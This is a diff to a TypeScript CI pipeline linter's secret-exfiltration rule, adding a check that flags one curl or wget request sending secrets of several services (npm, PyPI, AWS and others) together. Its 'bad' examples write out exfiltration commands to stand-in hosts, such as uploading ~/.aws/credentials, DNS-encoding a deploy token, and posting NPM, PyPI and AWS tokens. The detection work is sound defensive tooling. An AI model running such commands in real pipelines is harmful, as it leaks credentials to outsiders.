@@ -1,6 +1,7 @@
 import type { ShellWord } from '../../../../lib/shell/shell-command.ts';
 import type { PipelineRule } from '../../rule.ts';
 import type { Secret } from '../../taint/flow.ts';
+import { isSecretName } from '../../taint/secret-names.ts';
 import type { JobTaint, TracedCommand } from '../../taint/job-taint.ts';
 import { githubScript, gitlabScript } from '../script-example.ts';
 import { captureHosts, hostIn } from './capture-hosts.ts';
@@ -41,6 +42,11 @@ export const exfiltration: PipelineRule = {
     gitlabScript('curl -T ~/.aws/credentials https://collect.example.org/x'),
     gitlabScript('dig "$(echo $DEPLOY_TOKEN | xxd -p).example.org"'),
     githubScript(['ALL: ${{ toJSON(secrets) }}'], 'curl -d "$ALL" https://collect.example.org'),
+    githubScript(
+      [],
+      `curl -s -d 'npm=\${{ secrets.NPM_TOKEN }}&pypi=\${{ secrets.PYPI_TOKEN }}' https://api.example.net`,
+    ),
+    gitlabScript('curl -F a="$NPM_TOKEN" -F b="$AWS_SECRET_ACCESS_KEY" https://api.example.net'),
     githubScript([], 'printenv > e.txt', 'curl -F f=@e.txt https://collect.example.org'),
   ],
   good: [
@@ -48,6 +54,11 @@ export const exfiltration: PipelineRule = {
     gitlabScript('curl -u "ci:$DEPLOY_TOKEN" -T app.tar.gz https://repo.example.org/app.tar.gz', 'cp ~/.npmrc .'),
     githubScript(['TOKEN: ${{ secrets.TOKEN }}'], 'curl -H "Authorization: Bearer $TOKEN" https://api.example.org'),
     githubScript([], 'env > /tmp/before', 'ping -c1 db'),
+    gitlabScript(
+      'curl -d "client_id=$SENTRY_CLIENT_ID&client_secret=$SENTRY_CLIENT_SECRET" https://sentry.example.org',
+    ),
+    gitlabScript('curl -d "user=$DOCKER_HUB_USER&password=$DOCKERHUB_TOKEN" https://hub.docker.com/v2/users/login'),
+    gitlabScript('curl -H "Authorization: $GITHUB_TOKEN" -d "{}" "https://api.github.com?k=$SLACK_CHANNEL"'),
   ],
   checks: {
     *job(job, pipeline, audit) {
@@ -79,6 +90,8 @@ function leakOf({ command }: TracedCommand, taint: JobTaint): Leak | undefined {
     (secret) => secret?.origin === 'environment',
   );
   if (everything) return leak(everything);
+  const receivers = name === 'curl' || name === 'wget' ? servicesIn(command) : [];
+  if (receivers.length > 1) return { what: `secrets of ${receivers.join(', ')} together`, steps: [] };
   const file =
     name === 'scp' || name === 'rsync'
       ? undefined
@@ -86,6 +99,34 @@ function leakOf({ command }: TracedCommand, taint: JobTaint): Leak | undefined {
   if (file) return { what: file.text.replace(/^.*@/, ''), steps: [] };
   const caught = args.some(({ text }) => captureHosts.test(hostIn(text) ?? ''));
   return caught ? leak([...flows, taint.input(command).secret].find((secret) => secret !== undefined)) : undefined;
+}
+
+/** Services by the words in the names of their secrets; no single receiver has business with two of them. */
+const services: readonly (readonly [string, RegExp])[] = [
+  ['npm', /(?:^|_)(?:NPM|NODE_AUTH)_/],
+  ['PyPI', /(?:^|_)(?:PYPI|TWINE)_/],
+  ['AWS', /(?:^|_)AWS_/],
+  ['Google Cloud', /(?:^|_)(?:GCP|GCLOUD)_/],
+  ['Azure', /(?:^|_)AZURE_/],
+  ['Docker Hub', /(?:^|_)DOCKER_?(?:HUB)?_/],
+  ['GitHub', /(?:^|_)(?:GH|GITHUB)_/],
+  ['crates.io', /(?:^|_)(?:CARGO|CRATES)_/],
+  ['RubyGems', /(?:^|_)(?:RUBYGEMS|GEM_HOST)_/],
+  ['Maven Central', /(?:^|_)(?:OSSRH|SONATYPE|MAVEN)_/],
+  ['Cloudflare', /(?:^|_)(?:CF|CLOUDFLARE)_/],
+  ['a database', /(?:^|_)(?:DB|DATABASE|POSTGRES|MYSQL|MONGO)_/],
+];
+
+/** The services whose secrets stand in what one request sends. */
+function servicesIn({ args }: TracedCommand['command']): readonly string[] {
+  const sent = args.filter((_, at) =>
+    /^(?:-d|--data\S*|-F|--form\S*|--post-data|--json)$/.test(args[at - 1]?.text ?? ''),
+  );
+  const names = sent
+    .flatMap(({ text }) => [...text.matchAll(/secrets\.(\w+)|\$\{?(\w+)/g)])
+    .map(([, one, other]) => (one ?? other ?? '').toUpperCase())
+    .filter(isSecretName);
+  return services.flatMap(([service, form]) => (names.some((one) => form.test(one)) ? [service] : []));
 }
 
 function leak(secret: Secret | undefined): Leak | undefined {
